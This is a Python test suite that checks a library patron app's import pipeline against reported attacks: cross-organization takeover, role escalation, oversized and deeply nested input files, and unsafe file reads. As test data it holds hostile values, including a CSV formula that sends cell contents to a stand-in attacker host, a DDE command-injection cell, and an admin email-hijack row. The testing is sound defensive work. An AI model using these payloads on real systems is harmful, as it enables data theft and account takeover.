"""Attacks through the import pipeline (issue 18, items 1, 3, 14, 15 and 16), each performed the
way it was found: through `import_file` as the Import screen calls it, the command line, or the
app under the pilot; on SQLite and PostgreSQL (`db`) where a database is involved.

- An import runs in the actor's organization: organization B's administrator cannot update
  A's `admin` (a new login email, then a reset code), nor any account of A matched by primary
  id, identifier, username or login email.
- No role climbs above its own: a User Manager's import cannot create a User Administrator
  (from the file or through a role rule), nor change an administrator's account; a desk role
  cannot import at all; a person who is staff elsewhere keeps their contacts.
- CSV exports are formula-safe and a round trip keeps the values; so is the import report.
- A write error (disk full) during an import ends in one line and exit 2, and a rerun finishes.
- A huge CSV line is refused in bounded memory.
"""

from __future__ import annotations

import csv
import io
import os
import re
import resource
import signal
import subprocess
import sys
import tracemalloc
from pathlib import Path

import pytest
from textual.widgets import Static

from models.config.configuration import add_organization
from models.enums import Role
from models.errors import PermissionDenied
from models.store.base import database
from models.store.tables import (
    Account,
    AuditEvent,
    Email,
    Identifier,
    Organization,
    Person,
    RoleAssignment,
    RoleRule,
    UserGroup,
)
from models.transfer.exports import export_users
from models.transfer.formats import FormatError, formula_safe, formula_value
from models.transfer.imports import ImportOptions, import_file
from models.users.accounts import NewUser, create_user
from tests.helpers.details import admin, future, staff, user
from tests.helpers.ui import SIZE, log_in, settle, type_into

ROOT = Path(__file__).resolve().parents[2]
B_PASSWORD = "Quill-Ledger-43"
STRONG = "Harbor-Lantern-73"


def write(tmp_path: Path, text: str, name: str = "users.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def opts(**kw) -> ImportOptions:
    kw.setdefault("workers", 1)
    return ImportOptions(**kw)


def refusals(report) -> dict[str, list[tuple[str, str]]]:
    out: dict[str, list[tuple[str, str]]] = {}
    for i in report.refusals:
        out.setdefault(i.primary_id or i.where, []).append((i.field, i.message))
    return out


def snapshot_of(org: Organization) -> dict:
    """Every person and account of `org`, and their contact emails: what must not change."""
    accounts = {
        a.id: (a.version, a.primary_id, a.status, a.updated_by)
        for a in Account.select().where(Account.organization == org)
    }
    people = {
        p.id: (p.version, p.email, p.username, p.last_name, p.password_hash)
        for p in Person.select()
        .join(Account, on=Account.person == Person.id)
        .where(Account.organization == org)
    }
    emails = {
        (e.person_id, e.address)
        for e in Email.select().where(Email.person.in_(list(people)))  # type: ignore[attr-defined]
    }
    return {"accounts": accounts, "people": people, "emails": emails}


@pytest.fixture
def org_b(db):
    """Organization B with its own User Administrator `admin_b`."""
    org = add_organization(
        "ORGB", "Organization B", admin_username="admin_b", admin_password=B_PASSWORD
    )
    return org, Account.get(Account.organization == org)


# --- Item 1: an import runs in the actor's organization ------------------------------------------


def test_bs_administrator_cannot_take_over_as_admin_through_an_import(db, org_b, tmp_path) -> None:
    """The attack as found: B's administrator imports a row for A's `admin` with their own
    address; the Import screen passed no organization and the importer used the first one."""
    org, admin_b = org_b
    before = snapshot_of(db.organization)
    path = write(
        tmp_path,
        "primary_id,last_name,emails\n"
        "admin,Administrator,attacker@b.example\n"
        "B-NEW,Newcomer,newcomer@b.example\n",
    )
    report = import_file(path, opts(), actor_account=admin_b)  # as the Import screen calls it
    assert refusals(report) == {
        "admin": [("primary_id", "belongs to an account of another organization")]
    }
    assert (report.created, report.updated) == (1, 0)
    assert snapshot_of(db.organization) == before
    assert Person.get_by_id(db.admin.person_id).email != "attacker@b.example"
    assert not Email.select().where(Email.address == "attacker@b.example").exists()
    assert Account.get(Account.primary_id == "B-NEW").organization_id == org.id


def test_an_explicit_organization_other_than_the_actors_is_refused(db, org_b, tmp_path) -> None:
    _org, admin_b = org_b
    path = write(tmp_path, "primary_id,last_name\nA-NEW,Intruder\n")
    with pytest.raises(PermissionDenied, match="own organization"):
        import_file(path, opts(), organization=db.organization, actor_account=admin_b)
    assert not Account.select().where(Account.primary_id == "A-NEW").exists()


def test_a_row_matching_another_organizations_account_any_way_is_refused(
    db, org_b, tmp_path
) -> None:
    """New primary ids, but A's barcode, A's username, A's login email: refused (or, for the
    email, not made a login email), A untouched, and no refusal names A's account."""
    _org, admin_b = org_b
    anna = user(db, "P-ANNA", identifier="BC-ANNA-1")
    before = snapshot_of(db.organization)
    path = write(
        tmp_path,
        "primary_id,username,last_name,identifiers,emails\n"
        "N1,,Barcode,BARCODE:BC-ANNA-1,\n"
        "N2,p-anna,Username,,\n"
        "N3,,Email,,p-anna@example.org\n",
    )
    report = import_file(path, opts(), actor_account=admin_b)
    got = refusals(report)
    assert set(got) == {"N1", "N2"}
    assert got["N1"] == [
        ("identifier BC-ANNA-1", "is already used by an account of another organization")
    ]
    assert got["N2"] == [
        (
            "username",
            "'p-anna' is already used by another person (an account of another organization)",
        )
    ]
    assert "P-ANNA" not in str(report.issues)
    n3 = Account.get(Account.primary_id == "N3")
    assert n3.person.email is None  # A's login email stays A's
    assert snapshot_of(db.organization) == before
    assert Identifier.get(Identifier.value == "BC-ANNA-1").account_id == anna.id


def test_a_proxy_in_an_import_never_reaches_another_organization(db, org_b, tmp_path) -> None:
    """PatronDesk JSON carries proxies by primary id: only to accounts of the same one."""
    _org, admin_b = org_b
    user(db, "P-TARGET")
    path = write(
        tmp_path,
        '{"format": "patrondesk", "version": 1, "users": [\n'
        '{"primary_id": "B-PROXY", "last_name": "Proxy", "record_type": "public",'
        ' "proxy_for": [{"target": "P-TARGET", "note": ""}]}]}\n',
        "users.json",
    )
    report = import_file(path, opts(), actor_account=admin_b)
    assert report.created == 1
    from models.store.tables import ProxyFor

    assert not ProxyFor.select().exists()
    assert any(i.field == "proxy_for" for i in report.issues)


def test_the_command_line_imports_into_the_organization_it_names(db, org_b, tmp_path) -> None:
    """Without an actor (the command line): --organization CODE, else the first organization."""
    path = write(tmp_path, "primary_id,last_name\nCLI-B,Bee\n")
    done = _cli(tmp_path, db.url, "import", str(path), "--organization", "orgb", "--workers", "1")
    assert done.returncode == 0, done.stderr
    assert Account.get(Account.primary_id == "CLI-B").organization.code == "ORGB"
    wrong = _cli(tmp_path, db.url, "import", str(path), "--organization", "NOPE")
    assert wrong.returncode == 2 and "Traceback" not in wrong.stderr
    assert wrong.stderr.strip().splitlines() == [
        "patrondesk: error: No organization has the code 'NOPE' (known: MAIN, ORGB)."
    ]
    path = write(tmp_path, "primary_id,last_name\nCLI-A,Ay\n")
    assert _cli(tmp_path, db.url, "import", str(path), "--workers", "1").returncode == 0
    assert Account.get(Account.primary_id == "CLI-A").organization.code == "MAIN"


async def test_the_import_screen_imports_into_the_actors_organization(ui_db, tmp_path) -> None:
    """The attack through the app: B's administrator logs in and imports the file."""
    from screens.transfer import ImportScreen
    from tui.app import PatronDeskApp

    add_organization("ORGB", "Organization B", admin_username="admin_b", admin_password=B_PASSWORD)
    before = snapshot_of(Organization.get(Organization.code == "MAIN"))
    path = write(
        tmp_path,
        "primary_id,last_name,emails\n"
        "admin,Administrator,attacker@b.example\n"
        "B-SCREEN,Screen,screen@b.example\n",
    )
    app = PatronDeskApp()
    async with app.run_test(size=SIZE) as pilot:
        await log_in(pilot, "admin_b", B_PASSWORD)
        app.action_import()
        await pilot.pause()
        assert isinstance(app.screen, ImportScreen)
        await type_into(pilot, "#path", str(path))
        await pilot.press("ctrl+s")
        await settle(pilot)
        summary = str(app.screen.query_one("#summary", Static).render())
        assert "1 created" in summary and "1 refused" in summary
    assert snapshot_of(Organization.get(Organization.code == "MAIN")) == before
    assert Account.get(Account.primary_id == "B-SCREEN").organization.code == "ORGB"


# --- Item 3: no role climbs above its own, through an import -------------------------------------


@pytest.fixture
def manager(db) -> Account:
    return staff(db, Role.USER_MANAGER, "S-MGR")


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_user_manager_cannot_import_an_administrator(db, manager, tmp_path, fmt) -> None:
    if fmt == "csv":
        path = write(
            tmp_path,
            "primary_id,record_type,last_name,roles,password\n"
            f"EVIL1,staff,Mallory,user_administrator,{STRONG}\n"
            f"EVIL2,staff,Mallory,patron|circulation_desk_operator|user_administrator,{STRONG}\n",
        )
    else:
        path = write(
            tmp_path,
            '{"format": "patrondesk", "version": 1, "users": [\n'
            '{"primary_id": "EVIL1", "record_type": "staff", "last_name": "Mallory",'
            ' "roles": [{"role": "user_administrator", "status": "active"}]},\n'
            '{"primary_id": "EVIL2", "record_type": "staff", "last_name": "Mallory",'
            ' "roles": [{"role": "user_administrator", "status": "inactive"}]}]}\n',
            "users.json",
        )
    report = import_file(path, opts(), actor_account=manager)
    got = refusals(report)
    assert set(got) == {"EVIL1", "EVIL2"}
    for problems in got.values():
        assert problems == [
            ("roles", "You may not give or take the role user administrator: it is above your own.")
        ]
    assert report.created == 0
    assert not Account.select().where(Account.primary_id.in_(["EVIL1", "EVIL2"])).exists()


def test_a_role_rule_does_not_lift_an_import_above_its_actor(db, manager, tmp_path) -> None:
    """A user group whose rule gives User Administrator: a User Manager may not use it."""
    group = UserGroup.get((UserGroup.organization == db.organization) & (UserGroup.code == "STAFF"))
    RoleRule.create(
        organization=db.organization, role=Role.USER_ADMINISTRATOR.value, user_group=group
    )
    path = write(tmp_path, "primary_id,record_type,last_name,user_group\nEVIL3,staff,Rule,STAFF\n")
    report = import_file(path, opts(), actor_account=manager)
    assert refusals(report) == {
        "EVIL3": [
            ("roles", "You may not give or take the role user administrator: it is above your own.")
        ]
    }
    assert not Account.select().where(Account.primary_id == "EVIL3").exists()
    # The system (the command line) may.
    assert import_file(path, opts()).created == 1


def test_a_user_manager_still_imports_desk_staff(db, manager, tmp_path) -> None:
    path = write(
        tmp_path,
        "primary_id,record_type,last_name,roles\nDESK1,staff,Desk,circulation_desk_operator\n",
    )
    report = import_file(path, opts(), actor_account=manager)
    assert (report.created, report.refused) == (1, 0)
    roles = {
        r.role
        for r in RoleAssignment.select().where(
            RoleAssignment.account == Account.get(Account.primary_id == "DESK1")
        )
    }
    assert roles == {"circulation_desk_operator"}  # the roles listed are the account's


def test_a_user_managers_import_does_not_touch_an_administrators_account(
    db, manager, tmp_path
) -> None:
    admin2 = staff(db, Role.USER_ADMINISTRATOR, "S-ADM2")
    before = snapshot_of(db.organization)
    path = write(
        tmp_path,
        "primary_id,last_name,emails\n"
        "S-ADM2,Renamed,attacker@example.org\n"
        "admin,Renamed,attacker@example.org\n",
    )
    report = import_file(path, opts(), actor_account=manager)
    got = refusals(report)
    assert set(got) == {"S-ADM2", "admin"}
    for problems in got.values():
        assert problems == [
            (
                "primary_id",
                "You may not edit user: this user holds the role user administrator, "
                "which is above your own.",
            )
        ]
    assert snapshot_of(db.organization) == before
    assert Person.get_by_id(admin2.person_id).last_name != "Renamed"


def test_a_desk_role_cannot_import_at_all(db, tmp_path) -> None:
    desk = staff(db, Role.CIRCULATION_DESK_MANAGER, "S-DESK")
    colleague = staff(db, Role.CIRCULATION_DESK_OPERATOR, "S-OP")
    before = snapshot_of(db.organization)
    path = write(tmp_path, "primary_id,last_name,emails\nS-OP,Renamed,attacker@example.org\n")
    with pytest.raises(PermissionDenied, match="run jobs"):
        import_file(path, opts(), actor_account=desk)
    assert snapshot_of(db.organization) == before
    assert Person.get_by_id(colleague.person_id).last_name != "Renamed"


@pytest.mark.parametrize(
    "row",
    [
        "primary_id,last_name,emails\nP-ADMIN-B-IN-A,Second,evil@example.org\n",
        "primary_id,last_name,username\nP-ADMIN-B-IN-A,Second,evil-login\n",
    ],
    ids=["contact-email", "username"],
)
def test_an_import_cannot_re_email_a_person_who_is_staff_elsewhere(db, tmp_path, row) -> None:
    """B's administrator is also a public user of A: A's import must not add an email to the
    person (a reset code would follow it) nor change their login."""
    org = add_organization(
        "ORGB", "Organization B", admin_username="admin_b", admin_password=B_PASSWORD
    )
    admin_b = Account.get(Account.organization == org)
    create_user(
        NewUser(
            record_type="public",
            person_id=admin_b.person_id,
            person_consent=True,
            primary_id="P-ADMIN-B-IN-A",
            user_group="PUBLIC",
            expiry_date=future(),
        ),
        admin(db),
        db.organization,
    )
    before = Person.get_by_id(admin_b.person_id)
    path = write(tmp_path, row)
    report = import_file(path, opts(), actor_account=db.admin)
    assert [m for _, m in refusals(report)["P-ADMIN-B-IN-A"]] == [
        "You may not edit contact: this person is staff of another organization; only they or "
        "that organization can change their login, password or contacts."
    ]
    after = Person.get_by_id(admin_b.person_id)
    assert (after.email, after.username, after.version) == (
        before.email,
        before.username,
        before.version,
    )
    assert not Email.select().where(Email.address == "evil@example.org").exists()


# --- Item 14: CSV is formula-safe, and a round trip keeps the value ------------------------------

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "first_name": "+SUM(1+1)",
    "middle_name": "-2+3",
    "title": "@cmd",
    "preferred_last_name": "'=already quoted",
}


def test_a_csv_export_is_formula_safe_and_imports_back_unchanged(db, tmp_path) -> None:
    hostile = user(db, "P-HOSTILE", **HOSTILE)
    out = io.StringIO()
    export_users(out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    row = next(r for r in rows if r["primary_id"] == "P-HOSTILE")
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value
    for r in rows:
        for cell in r.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell
    path = write(tmp_path, out.getvalue())
    # Read back: the values as they were (a dry run shows what the import read).
    preview = import_file(path, opts(dry_run=True, preview=10)).preview
    person = next(r for r in preview if r["primary_id"] == "P-HOSTILE")["person"]
    for name, value in HOSTILE.items():
        assert person[name] == value
    # And imported for real: nothing to change.
    report = import_file(path, opts())
    assert (report.updated, report.refused) == (0, 0)
    stored = Person.get_by_id(hostile.person_id)
    assert {n: getattr(stored, n) for n in HOSTILE} == HOSTILE


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("a=b", "a=b"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_the_formula_prefix_is_added_and_stripped_exactly_once(value: str, cell: str) -> None:
    assert formula_safe(value) == cell
    assert formula_value(cell) == value


def test_the_import_report_is_formula_safe(db, tmp_path) -> None:
    path = write(tmp_path, "primary_id,last_name\n=cmd|' /C calc'!A0,\n@x,Name\n")
    report = import_file(path, opts())
    target = tmp_path / "report.csv"
    report.write_csv(target)
    with open(target, encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells)


# --- Item 15: a write error during an import: one line, exit 2, the rollback guarded -------------


def _cli(tmp_path: Path, url: str, *args: str, limit=None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "PATRONDESK_DB"}
    env.update(XDG_DATA_HOME=str(tmp_path / "xdg"), XDG_STATE_HOME=str(tmp_path / "xdg-state"))
    return subprocess.run(
        [sys.executable, "-m", "tui.cli", "--db", url, *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=300,
        preexec_fn=limit,
    )


def _many(tmp_path: Path, n: int) -> Path:
    lines = ["primary_id,first_name,last_name,emails,notes"]
    lines += [f"F{i:05d},First{i},Last{i},f{i}@example.org,{'a note ' * 40}" for i in range(n)]
    return write(tmp_path, "\n".join(lines) + "\n", "many.csv")


def test_a_full_disk_during_an_import_ends_in_one_line_and_exit_2(db, tmp_path) -> None:
    """SQLite: the files may not grow by more than 3 MB (RLIMIT_FSIZE: the kernel refuses the
    write, as a full disk does; SQLite then rolls the transaction back by itself, and the
    rollback that followed failed with "cannot rollback - no transaction is active").
    PostgreSQL: the server answers a write with SQLSTATE 53100 disk_full, after 2,500 people."""
    path = _many(tmp_path, 6000)
    limit = None
    if db.backend == "sqlite":
        database.close()
        grow = os.path.getsize(db.url) + 3_000_000

        def limit() -> None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (grow, grow))

    else:
        database.execute_sql(
            "CREATE FUNCTION pd_disk_full() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
            "IF (SELECT count(*) FROM person) > 2500 THEN RAISE EXCEPTION "
            "'could not extend file: No space left on device' USING ERRCODE = 'disk_full'; "
            "END IF; RETURN NULL; END $$"
        )
        database.execute_sql(
            "CREATE TRIGGER pd_disk_full BEFORE INSERT ON person "
            "FOR EACH STATEMENT EXECUTE FUNCTION pd_disk_full()"
        )
    try:
        done = _cli(tmp_path, db.url, "import", str(path), "--workers", "1", limit=limit)
    finally:
        if db.backend != "sqlite":
            database.execute_sql("DROP TRIGGER pd_disk_full ON person")
            database.execute_sql("DROP FUNCTION pd_disk_full()")
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    # One line says it (the others are the progress lines of a piped import).
    (line,) = [x for x in done.stderr.splitlines() if not x.startswith("import: ")]
    assert line.startswith("patrondesk: error: the import stopped: the database refused a write")
    assert "rollback" not in line and "run the same import again" in line
    # What the line says was written is what the database holds.
    said = re.search(r"\(([\d,]+) created", line)
    written = Account.select().where(Account.primary_id.startswith("F")).count()
    assert written == (int(said.group(1).replace(",", "")) if said else 0) < 6000
    # The rerun, with room again, finishes: every record once.
    again = _cli(tmp_path, db.url, "import", str(path), "--workers", "1")
    assert again.returncode == 0, again.stderr
    assert Account.select().where(Account.primary_id.startswith("F")).count() == 6000


def test_a_write_error_in_an_update_savepoint_keeps_its_own_message(
    db, tmp_path, monkeypatch
) -> None:
    """The write fails inside an update (its savepoint): the message says why, in one line."""
    import peewee

    from models.transfer import imports

    user(db, "P-UPD")
    path = write(tmp_path, "primary_id,last_name\nP-UPD,Changed\n")

    def full(*_a, **_k) -> None:
        raise peewee.OperationalError("database or disk is full")

    monkeypatch.setattr(imports.Importer, "_sync_rows", full)
    monkeypatch.setattr(imports.audit, "record_changes", full)
    with pytest.raises(imports.ImportError_, match="database or disk is full") as caught:
        import_file(path, opts())
    assert "\n" not in caught.value.message
    assert Account.get(Account.primary_id == "P-UPD").person.last_name != "Changed"


# --- Item 16: a huge line is refused in bounded memory -------------------------------------------

HUGE = 50 * 1024 * 1024
PEAK = 16 * 1024 * 1024  # measured: about 2 MB (a 1 GB header took 3.2 GB before)


def _peak(fn) -> tuple[object, int]:
    tracemalloc.start()
    try:
        try:
            result: object = fn()
        except FormatError as exc:
            result = exc
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", [None, "csv", "koha-csv"])
def test_a_huge_csv_header_is_refused_in_bounded_memory(db, tmp_path, fmt) -> None:
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write("primary_id,last_name,cardnumber,surname,")
        for _ in range(HUGE // (1024 * 1024)):
            f.write("x" * (1024 * 1024))
    result, peak = _peak(lambda: import_file(path, opts(format=fmt)))
    assert peak < PEAK, f"{peak / 2**20:.0f} MB"
    assert isinstance(result, FormatError), result
    assert "huge.csv" in result.message and "longer than" in result.message


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(",x" * (HUGE // 2) + "\n", id="many-cells"),
        pytest.param(',"' + "line\n" * (HUGE // 5), id="one-quoted-cell-of-many-lines"),
    ],
)
def test_a_huge_csv_row_is_refused_in_bounded_memory(db, tmp_path, body) -> None:
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write("primary_id,last_name\nP-BEFORE,Before\nP-HUGE,Huge")
        f.write(body)
        f.write("P-AFTER,After\n")
    report, peak = _peak(lambda: import_file(path, opts()))
    assert not isinstance(report, FormatError), report
    assert peak < PEAK, f"{peak / 2**20:.0f} MB"
    assert report.created == 1 and Account.get(Account.primary_id == "P-BEFORE")
    (problem,) = report.refusals
    assert problem.where == "row 3" and "longer than" in problem.message
    assert "rest of the file" in problem.message
    assert not Account.select().where(Account.primary_id == "P-AFTER").exists()


def test_a_legitimate_long_note_still_imports(db, tmp_path) -> None:
    note = "word " * 800  # 4,000 characters: the longest note a screen accepts
    path = write(tmp_path, f'primary_id,last_name,notes\nP-LONG,Long,"{note}"\n')
    report = import_file(path, opts())
    assert (report.created, report.refused) == (1, 0)


def test_no_audit_event_is_written_by_a_refused_import(db, org_b, tmp_path) -> None:
    """Refusals leave no trace of a change on the other organization's accounts."""
    _org, admin_b = org_b
    last = AuditEvent.select().order_by(AuditEvent.id.desc()).first()
    path = write(tmp_path, "primary_id,last_name\nadmin,Renamed\n")
    import_file(path, opts(), actor_account=admin_b)
    events = AuditEvent.select().where(AuditEvent.id > (last.id if last else 0))
    assert not [e for e in events if e.account_id == db.admin.id]


DEEP = 50_000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("[" * DEEP + "]" * DEEP, id="the-whole-file"),
        pytest.param(
            '[{"primary_id": "A0", "last_name": "Before"}, '
            '{"primary_id": "A1", "last_name": "X", "notes": ' + "[" * DEEP + "]" * DEEP + "}]",
            id="a-record-past-the-decoders-stack",
        ),
        pytest.param(
            '[{"primary_id": "A0", "last_name": "Before"}, '
            '{"primary_id": "A1", "last_name": "X", "extra": '
            + '{"a": ' * 700
            + "1"
            + "}" * 700
            + "}]",
            id="a-record-within-the-decoders-stack",
        ),
    ],
)
def test_deeply_nested_json_is_refused_in_one_line(db, tmp_path, text) -> None:
    """Found by an attack (2026-12-08): arrays nested 50,000 deep stopped the decoder with a
    RecursionError, which ended the app (a traceback with the file's text among its locals)
    and gave the command line a traceback; nested 700 deep, the decoder passed and a walk of
    the record did. No user record nests more than a few levels: the file is refused as for
    any JSON error (one line naming where; nothing of it imported)."""
    path = write(tmp_path, text, "deep.json")
    with pytest.raises(FormatError, match="nested more than 32 deep"):
        import_file(path, opts(format="json"))
    assert not Account.select().where(Account.primary_id == "A0").exists()  # as any JSON error
    from tests.security.test_sec_files import cli, new_database, one_line_error

    live = new_database(tmp_path)
    result = cli(tmp_path, "--db", str(live), "import", str(path), "--dry-run")
    one_line_error(result, "deep.json", "nested more than 32 deep")


def test_an_import_from_the_app_reads_documents_only(db, tmp_path) -> None:
    """Found by an attack (2026-12-08): the Import screen (a staff session) read a CSV in a
    hidden folder (~/.secret/keys.csv, shown in the preview), followed a link inside a folder,
    waited forever on a FIFO and read /dev/zero forever. A staff session's import reads what
    a file to attach may be: a document, a regular file, no link; checked before any file is
    opened. The command line (the account itself) still reads where it is told."""
    from models.store.files import FileRefused
    from tests.security.test_sec_files import in_thread

    manager = staff(db, Role.USER_MANAGER, "S-UM")
    hidden = tmp_path / ".secret"
    hidden.mkdir()
    secret = hidden / "keys.csv"
    secret.write_text("primary_id,last_name\nK1,Secret\n", encoding="utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.csv").write_text("primary_id,last_name\nA1,Ok\n", encoding="utf-8")
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("primary_id,last_name\nL1,Linked\n", encoding="utf-8")
    (folder / "b.csv").symlink_to(elsewhere)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    cases = [(secret, "hidden"), (folder, "symbolic link"), (fifo, "FIFO")]
    if os.path.exists("/dev/zero"):
        cases.append((Path("/dev/zero"), "system"))
    for path, why in cases:
        finished, outcome = in_thread(
            lambda p=path: import_file(p, opts(format="csv"), actor_account=manager),
            release=fifo,
        )
        assert finished, path
        assert isinstance(outcome, FileRefused) and why in outcome.message, (path, outcome)
    assert not Account.select().where(Account.primary_id.in_(["K1", "A1", "L1"])).exists()
    assert import_file(secret, opts()).created == 1  # the command line: its own account's file


def test_an_import_from_the_app_opens_no_pipe_or_link_beside_its_file(db, tmp_path) -> None:
    """Found by a review (2026-12-08): the app's import checked the file it was given but
    not the reference files it reads beside it (FOLIO's ref-data): a FIFO there held the
    import forever; and a RERO file of several organisations in a hidden folder was read for
    its organisations before the check. Reference files are regular files only, not links,
    opened without waiting; the path is checked before anything is opened."""
    from tests.security.test_sec_files import in_thread

    manager = staff(db, Role.USER_MANAGER, "S-UM")
    folder = tmp_path / "in"
    (folder / "ref-data" / "groups").mkdir(parents=True)
    fifo = folder / "ref-data" / "groups" / "zz.json"
    os.mkfifo(fifo)
    users = folder / "u.json"
    users.write_text(
        '{"users": [{"username": "f1", "externalSystemId": "F1", "active": true, '
        '"personal": {"lastName": "Folio"}}]}',
        encoding="utf-8",
    )
    finished, outcome = in_thread(
        lambda: import_file(users, opts(format="folio-json"), actor_account=manager),
        release=fifo,
        seconds=20,
    )
    assert finished and not isinstance(outcome, BaseException), outcome
    assert outcome.created == 1
